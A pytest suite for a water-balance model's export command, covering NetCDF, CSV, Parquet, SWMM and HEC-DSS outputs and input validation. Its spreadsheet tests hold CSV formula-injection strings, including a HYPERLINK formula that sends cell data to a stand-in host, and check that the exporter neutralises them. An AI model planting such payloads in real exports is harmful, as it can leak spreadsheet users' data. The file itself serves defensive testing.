"""Exports: every layout against the result it comes from, read by other code; bad input."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import netCDF4
import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
import xarray as xr
import yaml

from tests import exportkit
from tests.citykit import write_city
from waterbal import api
from waterbal.exports import LAYOUTS, READERS, tables
from waterbal.results import netcdf

Run = Callable[..., tuple[int, str, str]]
HIGH = ("--scenario", "growth=high", "--realization", 1)


@pytest.fixture(scope="module")
def full(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return exportkit.swept(tmp_path_factory.mktemp("full"))


@pytest.fixture(scope="module")
def truth(full: Path) -> xr.Dataset:
    return exportkit.plain(full)


@pytest.fixture(scope="module")
def yearly(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return exportkit.swept(tmp_path_factory.mktemp("yearly"), "yearly")


@pytest.fixture
def export(cli: Run, full: Path, tmp_path: Path) -> Callable[..., Any]:
    """Export the sweep; give the only file, or raise with the message."""

    def call(layout: str, *arguments: object, name: str = "out.nc") -> Path:
        out = tmp_path / name
        status, text, err = cli("export", full, "-o", out, "--layout", layout, "-q", *arguments)
        assert (status, text) == (0, ""), err
        return out

    return call


def refused(cli: Run, *arguments: object) -> str:
    status, _, err = cli("export", "-q", *arguments)
    assert status == 2, err
    assert "defect" not in err
    return err


def open_raw(path: Path) -> xr.Dataset:
    with xr.open_dataset(path) as file:
        return file.load()


# ---- NetCDF


def test_time_first_holds_all_members(export: Any, truth: xr.Dataset) -> None:
    made = open_raw(export("cdo", "--variable", "water_supply", "--variable", "return_flow"))
    assert made["water_supply"].dims == ("time", "scenario", "realization", "station")
    expected = truth["water_supply"].transpose("time", "scenario", "realization", "demand").values
    np.testing.assert_array_equal(made["water_supply"].values, expected)
    np.testing.assert_array_equal(made["time_bnds"].values, truth["time_bnds"].values)
    np.testing.assert_array_equal(made["time"].values, truth["time_bnds"].values[:, 0])


def test_what_makes_cdo_lose_members_is_not_there(export: Any) -> None:
    path = export("time-first", "--variable", "water_supply")
    with netCDF4.Dataset(path) as file:
        for variable in file.variables.values():
            assert "coordinates" not in variable.ncattrs()
            assert variable.dtype != str  # strings are unknown to some readers
        assert file.dimensions["time"].isunlimited()
        assert "time zone" in file.comment


def test_cdo_gets_no_characters(export: Any, truth: xr.Dataset) -> None:
    """It reads none and says so of each variable; ids and names stand in attributes of the file."""
    path = export("cdo", "--variable", "water_supply")
    with netCDF4.Dataset(path) as file:
        assert {variable.dtype.kind for variable in file.variables.values()} == {"i", "f"}
        assert json.loads(file.station_id) == truth["demand_id"].values.astype(str).tolist()
        assert json.loads(file.station_name_zh) == truth["demand_name_zh"].values.astype(str).tolist()
        assert json.loads(file.scenario_id) == truth["scenario_id"].values.astype(str).tolist()


@pytest.mark.parametrize("reader", ["rtc-tools", "fews"])
def test_station_first_stands_at_the_end_of_steps(export: Any, truth: xr.Dataset, reader: str) -> None:
    path = export(reader, "--variable", "storage_volume", "--scenario", "high")
    made = open_raw(path)
    assert made["storage_volume"].dims == ("realization", "station", "time")
    expected = truth["storage_volume"].isel(scenario=1).values
    np.testing.assert_array_equal(made["storage_volume"].values, expected)
    np.testing.assert_array_equal(made["time"].values, truth["time_bnds"].values[:, 1])
    assert made["time"].attrs["long_name"] == "end of the step"
    with netCDF4.Dataset(path) as file:
        assert file["station_id"].cf_role == "timeseries_id" and file["station_id"].ndim == 2
        assert set(file["storage_volume"].coordinates.split()) >= {"station_id", "station_name_zh"}
        assert file["realization"].standard_name == "realization" and file["time"].axis == "T"


def test_labels_follow_the_option(export: Any, truth: xr.Dataset) -> None:
    made = open_raw(export("fews", "--variable", "spill", "--scenario", "low", "--label", "start"))
    np.testing.assert_array_equal(made["time"].values, truth["time_bnds"].values[:, 0])


def test_names_in_chinese(cli: Run, tmp_path: Path) -> None:
    run = exportkit.ran(tmp_path)
    assert cli("export", run, "-o", tmp_path / "a.nc", "--layout", "fews", "--variable", "term")[0] == 2
    assert (
        cli("export", run, "-o", tmp_path / "a.nc", "--layout", "fews", "--variable", "district_budget")[0]
        == 0
    )
    made = open_raw(tmp_path / "a.nc")
    assert "realization" not in made  # one member: RTC-Tools takes the mere name for an ensemble
    assert "水源取水" in [str(name) for name in made["station_name_zh"].values]


def test_netcdf_keeps_to_the_conventions(export: Any, tmp_path: Path) -> None:
    from compliance_checker.runner import CheckSuite, ComplianceChecker

    CheckSuite.load_all_available_checkers()
    mixed = ("--variable", "storage_volume", "--variable", "spill")
    paths = [
        export("station-first", "--variable", "water_supply", "--scenario", "low", name="a.nc"),
        export("fews", "--variable", "source_limit", "--scenario", "low", "--realization", 0, name="b.nc"),
        export("cdo", "--variable", "water_supply", *HIGH, name="c.nc"),
        export("raven", "--variable", "water_supply", *HIGH, "--to", "2001-02", name="d.nc"),
        export("cdo", "--daily", *mixed, "--to", "2001-02", *HIGH, name="e.nc"),
    ]  # fmt: skip
    for path in paths:
        told = tmp_path / "report.txt"
        passed, errors = ComplianceChecker.run_checker(
            ds_loc=str(path), checker_names=["cf:1.11"], verbose=0, criteria="strict", output_filename=str(told),
            output_format="text",
        )  # fmt: skip
        assert passed and not errors, told.read_text()


# ---- days and rates


def test_days_conserve_totals(export: Any, truth: xr.Dataset) -> None:
    made = open_raw(export("raven", "--variable", "water_supply", "--variable", "water_demand", *HIGH))
    for name in ("water_supply", "water_demand"):
        assert made[name].attrs["units"] == "m3 s-1"
        assert made[name].attrs["cell_methods"] == "time: mean (of the step, held over its days)"
        totals = made[name].resample(time="MS").sum() * 86400 / 1e4
        expected = truth[name].isel(scenario=1, realization=1).transpose("time", "demand")
        np.testing.assert_allclose(totals.values, expected.values, rtol=1e-13, atol=1e-13)
    assert made.sizes["time"] == 6 * 365 + 1  # 2004 has a day more
    assert (np.diff(made["time"].values) == np.timedelta64(1, "D")).all()


def test_rates_of_steps(export: Any, truth: xr.Dataset) -> None:
    made = open_raw(export("time-first", "--rate", "--variable", "water_supply", *HIGH))
    expected = exportkit.rates(truth, "water_supply")[1, 1].T
    np.testing.assert_allclose(made["water_supply"].values, expected, rtol=1e-14)
    assert made["water_supply"].attrs["cell_methods"] == "time: mean"


def test_stocks_run_between_the_ends_of_steps(export: Any, truth: xr.Dataset) -> None:
    made = open_raw(export("time-first", "--daily", "--variable", "storage_volume", *HIGH))["storage_volume"]
    ends = truth["storage_volume"].isel(scenario=1, realization=1, store=0).values
    days = made.isel(station=0) if "station" in made.dims else made
    assert np.isnan(
        days.sel(time="2001-01").values[:-1]
    ).all()  # what January began with is not in the result
    assert float(days.sel(time="2001-01-31")) == ends[0] and float(days.sel(time="2001-02-28")) == ends[1]
    expected = ends[0] + (ends[1] - ends[0]) * np.arange(1, 29) / 28
    np.testing.assert_allclose(days.sel(time="2001-02").values, expected, rtol=1e-13)
    assert "interpolated" in made.attrs["cell_methods"]


def test_a_cut_knows_the_step_before_it(export: Any, truth: xr.Dataset) -> None:
    arguments = (
        "--daily",
        "--variable",
        "storage_volume",
        *HIGH,
        "--from",
        "2002-02-10",
        "--to",
        "2002-02-20",
    )
    made = open_raw(export("time-first", *arguments))["storage_volume"]
    ends = truth["storage_volume"].isel(scenario=1, realization=1, store=0).values
    assert made.sizes["time"] == 11
    assert float(made[0, 0]) == pytest.approx(ends[12] + (ends[13] - ends[12]) * 10 / 28, rel=1e-13)


def test_what_jumps_is_held(export: Any, truth: xr.Dataset) -> None:
    made = open_raw(export("time-first", "--daily", "--variable", "quota_remaining", *HIGH))[
        "quota_remaining"
    ]
    left = truth["quota_remaining"].isel(scenario=1, realization=1, quota=0).values
    assert (made.sel(time="2001-07").values == left[6]).all() and "held" in made.attrs["cell_methods"]
    assert left[6] > left[5]  # the quota year began: a line from June to July would be water that nobody has


# ---- tables


def test_tidy_csv(export: Any, truth: xr.Dataset) -> None:
    frame = pd.read_csv(
        export("csv", "--variable", "water_supply", "--variable", "water_demand", name="a.csv")
    )
    shape = tuple(truth.sizes[dim] for dim in ("scenario", "realization", "demand", "time"))
    np.testing.assert_array_equal(frame["water_supply [1e4 m3]"].values.reshape(shape), truth["water_supply"])
    one = frame[(frame.scenario == "high") & (frame.realization == 1) & (frame.demand == "farms")]
    assert one["step_start"].iloc[1] == "2001-02-01" and one["step_end"].iloc[1] == "2001-03-01"
    assert set(frame["growth"]) == {"low", "high"} and set(frame["demand_sector"]) == {
        "residential",
        "irrigation",
    }


def test_metrics_and_years_as_tables(cli: Run, yearly: Path, tmp_path: Path) -> None:
    assert cli("export", yearly, "-o", tmp_path / "t", "--layout", "csv", "-q")[0] == 0
    truth = exportkit.plain(yearly)
    overall = pd.read_csv(tmp_path / "t" / "demand-overall.csv")
    np.testing.assert_array_equal(overall["reliability_step"], truth["reliability_step"].values.ravel())
    years = pd.read_csv(tmp_path / "t" / "demand-yearly.csv")
    np.testing.assert_array_equal(
        years["yearly_water_supply [1e4 m3]"], truth["yearly_water_supply"].values.ravel()
    )
    assert years["year"].iloc[:6].tolist() == list(range(2001, 2007))


def test_wide_csv_for_excel(export: Any, truth: xr.Dataset) -> None:
    path = export("excel", "--variable", "water_supply", *HIGH, "--lang", "zh", name="a.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf" + "时段首日,".encode())
    frame = pd.read_csv(path, encoding="utf-8-sig")
    assert list(frame)[1:] == ["供水量 homes [1e4 m3]", "供水量 farms [1e4 m3]"]
    np.testing.assert_array_equal(frame.iloc[:, 1:].values.T, truth["water_supply"][1, 1])


def test_columns_of_members(export: Any, truth: xr.Dataset) -> None:
    path = export("csv", "--wide", "--variable", "spill", "--scenario", "low", name="a.csv")
    frame = pd.read_csv(path)
    assert list(frame) == ["step_start", "spill.lake.r0 [1e4 m3]", "spill.lake.r1 [1e4 m3]"]
    np.testing.assert_array_equal(frame.iloc[:, 2], truth["spill"][0, 1, 0])


def test_parquet(export: Any, truth: xr.Dataset) -> None:
    path = export("parquet", "--variable", "water_supply", name="a.parquet")
    table = pq.read_table(path)
    assert table.schema.field("water_supply").metadata[b"units"] == b"1e4 m3"
    frame = table.to_pandas()
    np.testing.assert_array_equal(frame["water_supply"], truth["water_supply"].values.ravel())
    assert str(frame["step_end"].iloc[0]) == "2001-02-01"


EVIL = ('=HYPERLINK("http://a.b/"&A1,"see")', "+1+1", "-2+3", "\t=1+1", "\r=1+1", "＝1+1")
"""Names that a spreadsheet would run; ``@`` begins no name of a model, but the name of a parameter."""


QUICK = ("time.end=2002-12", "reserve={mode: none}")


def evil_run(folder: Path) -> Path:
    """Run a city whose farms lose water, and whose names are formulas."""
    model = write_city(folder)
    names = iter([*EVIL, *EVIL])
    content = yaml.safe_load(model.read_text(encoding="utf-8"))
    for section in ("zones", "sources", "links", "demands"):
        for spec in content[section].values():
            spec["name"] = {"zh": (name := next(names, "=9+9")), "en": name}
    model.write_text(yaml.safe_dump(content, allow_unicode=True, sort_keys=False), encoding="utf-8")
    netcdf.write(api.load(model, QUICK).run(), folder / "run.nc")
    return folder / "run.nc"


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return evil_run(tmp_path_factory.mktemp("evil"))


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("options", [("csv",), ("excel",), ("excel", "--wide", "--lang", "zh")])
def test_text_that_a_spreadsheet_would_run(
    cli: Run, evil: Path, tmp_path: Path, options: tuple[str, ...]
) -> None:
    out = tmp_path / "out.csv"
    status, _, err = cli("export", evil, "-o", out, "--variable", "water_supply", "-q", "--layout", *options)
    assert status == 0, err
    head, *rows = cells_of(out)
    cells = [cell for row in (head, *rows) for cell in row]
    numbers = [cell for cell in cells if re.fullmatch(r"-?\d+(\.\d*)?(e[-+]?\d+)?", cell)]
    assert len(numbers) >= len(rows) > 10
    assert not [cell for cell in set(cells) - set(numbers) if cell.startswith((*"=+-@\t\r", "＝"))]


def test_names_are_kept_behind_the_mark(cli: Run, evil: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    status, _, err = cli("export", evil, "-o", out, "-q", "--layout", "csv", "--variable", "water_supply")
    assert status == 0, err
    table = pd.read_csv(out)
    assert set(table["demand_name_en"]) <= {f"'{name}" for name in (*EVIL, "=9+9")}
    assert table["water_supply [1e4 m3]"].dtype == float
    with xr.open_dataset(evil) as file:
        np.testing.assert_array_equal(table["water_supply [1e4 m3]"], file["water_supply"].values.ravel())


def test_elements_of_one_name_keep_columns_of_their_own(cli: Run, evil: Path, tmp_path: Path) -> None:
    """Both users are called =9+9."""
    out = tmp_path / "a.csv"
    options = ("--layout", "excel", "--variable", "water_supply", "--lang", "zh")
    status, _, err = cli("export", evil, "-o", out, "-q", *options)
    assert status == 0, err
    head, first, *_ = cells_of(out)
    assert head[1:] == ["供水量 =9+9 (homes) [1e4 m3]", "供水量 =9+9 (farms) [1e4 m3]"]
    with xr.open_dataset(evil) as file:
        assert [float(cell) for cell in first[1:]] == file["water_supply"].values[0, 0, :, 0].tolist()


def test_marks_are_put_before_text_alone(tmp_path: Path) -> None:
    columns = [
        tables.Column("@head", np.array(["@SUM(1,2)", "\n=1", "plain", ""]), {}),
        tables.Column("volume", np.array([-1.5, 2.0, np.nan, 0.0]), {"units": "1e4 m3"}),
    ]
    tables.write_csv(columns, tmp_path / "a.csv", bom=False)
    assert cells_of(tmp_path / "a.csv") == [
        ["'@head", "volume [1e4 m3]"], ["'@SUM(1,2)", "-1.5"], ["'\n=1", "2.0"], ["plain", ""], ["", "0.0"],
    ]  # fmt: skip


@pytest.mark.peers
def test_a_spreadsheet_runs_no_name(cli: Run, tmp_path: Path) -> None:
    """LibreOffice opens the CSV and the workbooks: no formula that is not ours, and numbers are numbers."""
    run, changed = evil_run(tmp_path), tmp_path / "changed.nc"
    status, _, err = cli("run", "--from", run, "-o", changed, "-q")
    assert status == 0, err
    made = [tmp_path / name for name in ("tidy.csv", "wide.csv", "tables.xlsx", "changes.xlsx")]
    for arguments in (
        ("export", run, "-o", made[0], "--layout", "csv", "--bom", "--variable", "water_supply"),
        ("export", run, "-o", made[1], "--layout", "excel", "--variable", "water_supply", "--lang", "zh"),
        ("report", run, "--xlsx", made[2]),
        ("compare", run, changed, "--xlsx", made[3]),
    ):
        status, _, err = cli(*arguments, "-q")
        assert status == 0, err
    office = shutil.which("soffice")
    assert office, "LibreOffice is not installed"
    subprocess.run(
        [office, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to",
         "xlsx", "--outdir", tmp_path / "opened", *made],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    for path in made:
        book = openpyxl.load_workbook(tmp_path / "opened" / f"{path.stem}.xlsx")
        cells = [
            cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
        ]
        formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
        if path.suffix == ".csv":
            assert not formulas
            assert sum(cell.data_type == "n" for cell in cells) >= 48  # two users, 24 months
        assert not [
            text for text in formulas if not re.fullmatch(r"=(SUM\([A-Z0-9:,]+\)|[A-Z]+\d+-[A-Z]+\d+)", text)
        ]


# ---- EPA SWMM

MODEL = """[OPTIONS]
FLOW_UNITS CMS
FLOW_ROUTING KINWAVE
START_DATE 02/01/2001
START_TIME 00:00:00
END_DATE 04/30/2001
END_TIME 24:00:00
REPORT_STEP 01:00:00
ROUTING_STEP 00:10:00
[JUNCTIONS]
in 10 5
[OUTFALLS]
out 9 FREE
[CONDUITS]
pipe in out 100 0.01 0 0
[XSECTIONS]
pipe CIRCULAR 3 0 0 0
[INFLOWS]
in FLOW return_flow.homes
"""


def swmm_inflow(folder: Path, text: str) -> float:
    """Run SWMM; give the volume [m3] that came in from outside."""
    from pyswmm import Simulation, SystemStats

    path = folder / "model.inp"
    path.write_text(text, encoding="utf-8")
    with Simulation(str(path)) as simulation:
        stats = SystemStats(simulation)
        for _ in simulation:
            pass
        assert abs(simulation.flow_routing_error) < 1.0
        return float(stats.routing_stats["external_inflow"])


@pytest.mark.filterwarnings("default")
def test_swmm_takes_in_our_volume(export: Any, truth: xr.Dataset, tmp_path: Path) -> None:
    """The total inflow that SWMM reports is the volume of the three months."""
    arguments = (
        "--variable",
        "return_flow",
        "--element",
        "homes",
        *HIGH,
        "--from",
        "2001-02",
        "--to",
        "2001-04",
    )
    section = export("swmm", *arguments, name="a.inp").read_text(encoding="utf-8")
    file = export("swmm", *arguments, name="homes.dat")
    expected = truth["return_flow"].isel(scenario=1, realization=1, demand=0).values[1:4].sum() * 1e4
    assert expected > 0.0
    assert swmm_inflow(tmp_path, MODEL + section) == pytest.approx(expected, rel=1e-4)
    by_file = f'[TIMESERIES]\nreturn_flow.homes FILE "{file}"\n'
    assert swmm_inflow(tmp_path, MODEL + by_file) == pytest.approx(expected, rel=1e-4)


def test_rates_are_held_in_swmm_series(export: Any, truth: xr.Dataset) -> None:
    lines = export("swmm", "--variable", "water_supply", *HIGH, name="a.inp").read_text().splitlines()
    points = [line.split() for line in lines if line.startswith("water_supply.farms ")]
    rates = exportkit.rates(truth, "water_supply")[1, 1, 1]
    assert [float(point[3]) for point in points] == pytest.approx(np.repeat(rates, 2), rel=1e-14)
    assert points[1][1:3] == ["01/31/2001", "23:59:59"] and points[2][1:3] == ["02/01/2001", "00:00:00"]
    assert points[-1][1:3] == ["01/01/2007", "00:00:00"]


# ---- HEC-DSS


def test_dss_there_and_back(export: Any, truth: xr.Dataset) -> None:
    import hecdss

    path = export("hec", "--variable", "water_supply", "--variable", "storage_volume", name="a.dss")
    with hecdss.HecDss(str(path)) as file:
        paths = [str(one) for one in file.get_catalog()]
        assert len(paths) == 2 * 2 * 3
        for k, scenario in enumerate(("LOW", "HIGH")):
            for r in range(2):
                wanted = f"/1Month/C:{r:06d}|{scenario}/"
                named = {one.split("/")[2] + one.split("/")[3]: one for one in paths if one.endswith(wanted)}
                supply = file.get(named["FARMSWATER_SUPPLY"], trim=True)
                assert (supply.units, supply.data_type) == ("M3", "PER-CUM")
                np.testing.assert_allclose(supply.values, truth["water_supply"][k, r, 1] * 1e4, rtol=1e-12)
                ends = truth["time_bnds"].values[:, 1].astype("datetime64[s]")
                assert np.array(supply.times, dtype="datetime64[s]").tolist() == ends.tolist()
                stock = file.get(named["LAKESTORAGE_VOLUME"], trim=True)
                assert stock.data_type == "INST-VAL"
                np.testing.assert_allclose(stock.values, truth["storage_volume"][k, r, 0] * 1e4, rtol=1e-12)


def test_dss_by_day(export: Any, truth: xr.Dataset) -> None:
    import hecdss

    arguments = ("--daily", "--variable", "water_supply", "--element", "homes", *HIGH)
    with hecdss.HecDss(str(export("dss", *arguments, name="a.dss"))) as file:
        (path,) = (str(one) for one in file.get_catalog())
        series = file.get(path, trim=True)
    assert (series.units, series.data_type) == ("CMS", "PER-AVER")
    total = truth["water_supply"].isel(scenario=1, realization=1, demand=0).values.sum() * 1e4
    assert np.sum(series.values) * 86400 == pytest.approx(total, rel=1e-12)


def test_dss_without_its_package(
    cli: Run, full: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(__import__("sys").modules, "hecdss", None)
    err = refused(cli, full, "-o", tmp_path / "a.dss", "--layout", "dss")
    assert "pip install 'waterbal[dss]'" in err


# ---- the command


def test_listing(cli: Run) -> None:
    status, out, _ = cli("export", "--layouts")
    assert status == 0
    for name in (*LAYOUTS, *READERS):
        assert name in out
    listed = json.loads(cli("export", "--layouts", "--json")[1])
    assert set(listed) == set(LAYOUTS)
    assert {reader for layout in listed.values() for reader in layout["readers"]} == set(READERS)
    assert "时间" in cli("export", "--layouts", "--lang", "zh")[1]


def test_what_is_told(cli: Run, full: Path, tmp_path: Path) -> None:
    arguments = ("--variable", "water_supply", "--from", "2002", "--to", "2003-06", "--json")
    status, out, _ = cli("export", full, "-o", tmp_path / "a.nc", "--layout", "cdo", *arguments)
    assert status == 0
    (file,) = json.loads(out)["files"]
    assert (file["steps"], file["first"], file["last"]) == (18, "2002-01-01", "2003-06-30")
    assert (
        file["scenarios"] == ["low", "high"] and file["units"] == ["1e4 m3"] and file["time_label"] == "start"
    )
    assert open_raw(tmp_path / "a.nc").sizes["time"] == 18


def test_a_folder_gets_a_file_of_each(cli: Run, full: Path, tmp_path: Path) -> None:
    assert cli("export", full, "-o", tmp_path / "f", "--layout", "fews", "-q")[0] == 0
    names = {path.name for path in (tmp_path / "f").iterdir()}
    assert {"demand-low.nc", "demand-high.nc", "store-low.nc", "source-limit-high.nc"} <= names
    more = ("--variable", "return_flow", "--element", "homes")
    assert cli("export", full, "-o", tmp_path / "s", "--layout", "swmm", "-q", *more)[0] == 0
    assert sorted(path.name for path in (tmp_path / "s").iterdir()) == [
        f"series-{scenario}-r{k}.inp" for scenario in ("high", "low") for k in range(2)
    ]


def test_yearly_and_metrics_have_no_series(cli: Run, yearly: Path, tmp_path: Path) -> None:
    for layout in ("cdo", "fews", "swmm", "dss", "excel"):
        suffix = {"swmm": "inp", "dss": "dss", "excel": "csv"}.get(layout, "nc")
        err = refused(cli, yearly, "-o", tmp_path / f"a.{suffix}", "--layout", layout)
        assert "sums by year" in err and "--keep full" in err


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("--layout", "time-frist"), ("no layout 'time-frist'", "did you mean 'time-first'?")),
        (("--layout", ""), ("no layout is named",)),
        (("--layout", "cdo", "--variable", "water_suply"), ("no variable 'water_suply'", "'water_supply'")),
        (("--layout", "cdo", "--variable", "reliability_step"), ("is no series", "csv")),
        (("--layout", "cdo", "--variable", "spill", "--element", "laek"), ("no element 'laek'", "'lake'")),
        (("--layout", "cdo", "--scenario", "hihg"), ("no scenario 'hihg'", "'high'", "growth")),
        (("--layout", "cdo", "--scenario", "growht=low"), ("no axis 'growht'", "'growth'")),
        (("--layout", "cdo", "--scenario", "growth=lo"), ("no value 'lo'", "'low'")),
        (("--layout", "cdo", "--realization", "7"), ("no realization 7", "0, 1")),
        (("--layout", "cdo"), ("kinds", "demand: water_demand", "a folder")),
        (("--layout", "raven", "--variable", "spill"), ("one scenario, and 2", "one realization, and 2", "folder")),
        (("--layout", "fews", "--variable", "spill"), ("one scenario, and 2 are chosen", "low, high")),
        (("--layout", "raven", "--variable", "water_area"), ("no volume of a step",)),
        (("--layout", "cdo", "--variable", "spill", "--from", "2031-01"), ("no step", "2001-01-01", "2006-12-31")),
        (("--layout", "cdo", "--variable", "spill", "--from", "2001-05-03", "--to", "2001-05-20"), ("no step",)),
        (("--layout", "cdo", "--variable", "spill", "--from", "May"), ("'May' is no date", "2001-05")),
        (("--layout", "csv", "--variable", "spill"), ("no name for a file of the layout csv", "time-first")),
        (("--layout", "cdo", "--variable", "spill", "--bom"), ("--bom means nothing",)),
        (("--layout", "cdo", "--variable", "spill", "--label", "mid"), ("no time label 'mid'", "start or end")),
        (("--layout", "cdo", "--variable", "spill", "--variable", "water_supply", "--element", "farms"),
         ("spill tells of none of these elements", "lake")),
    ],
)  # fmt: skip
def test_bad_choices(cli: Run, full: Path, tmp_path: Path, arguments: Any, words: Any) -> None:
    err = refused(cli, full, "-o", tmp_path / "a.nc", *arguments)
    for word in words:
        assert word in err, err
    assert list(tmp_path.iterdir()) == []


def test_all_problems_at_once(cli: Run, full: Path, tmp_path: Path) -> None:
    arguments = (
        "--layout",
        "cdo",
        "--variable",
        "x",
        "--variable",
        "y",
        "--scenario",
        "z",
        "--realization",
        9,
    )
    assert "4 problems" in refused(cli, full, "-o", tmp_path / "a.nc", *arguments)
    assert "RESULT.NC" in refused(cli, "--layout", "cdo", "-o", tmp_path / "a.nc")


def test_missing_numbers_do_not_go_to_swmm(cli: Run, full: Path, tmp_path: Path) -> None:
    arguments = ("--layout", "swmm", "--variable", "source_limit", *HIGH)
    assert "missing or endless" in refused(cli, full, "-o", tmp_path / "a.inp", *arguments)
    arguments = ("--layout", "swmm", "--variable", "water_supply", *HIGH)
    assert "holds one series, and 2" in refused(cli, full, "-o", tmp_path / "a.dat", *arguments)


@pytest.mark.parametrize(
    ("layout", "suffix"),
    [
        ("cdo", "nc"),
        ("swmm", "inp"),
        ("dss", "dss"),
        ("csv", "csv"),
        ("excel", "csv"),
        ("parquet", "parquet"),
    ],
)
def test_only_exports_are_replaced(cli: Run, full: Path, tmp_path: Path, layout: str, suffix: str) -> None:
    out = tmp_path / f"a.{suffix}"
    arguments = (full, "-o", out, "--layout", layout, "--variable", "water_supply", *HIGH)
    for _ in range(2):
        status, _, err = cli("export", *arguments)
        assert status == 0, err
    out.write_text("time,precious\n1,2\n", encoding="utf-8")
    assert "cannot write" in refused(cli, *arguments)
    assert out.read_text(encoding="utf-8") == "time,precious\n1,2\n"
    assert [path.name for path in tmp_path.iterdir()] == [out.name]


def test_a_result_is_not_replaced(cli: Run, full: Path, tmp_path: Path) -> None:
    before = full.read_bytes()
    arguments = ("--layout", "cdo", "--variable", "water_supply")
    assert "it is the result itself" in refused(cli, full, "-o", full, *arguments)
    other = tmp_path / "other.nc"
    other.write_bytes(before)
    assert "no export of waterbal" in refused(cli, full, "-o", other, *arguments)
    assert full.read_bytes() == before == other.read_bytes()


def test_exports_are_no_results(cli: Run, export: Any, tmp_path: Path) -> None:
    made = export("cdo", "--variable", "water_supply")
    status, _, err = cli("export", made, "-o", tmp_path / "b.nc", "--layout", "cdo")
    assert status == 4 and "no result of waterbal" in err
    status, _, err = cli("export", tmp_path / "none.nc", "-o", tmp_path / "b.nc", "--layout", "cdo")
    assert status == 4 and "there is no file" in err


def test_readers_name_layouts() -> None:
    for reader in READERS.values():
        assert reader.layout.name in LAYOUTS and reader.needs.zh and reader.needs.en
    assert not set(READERS) & set(LAYOUTS)
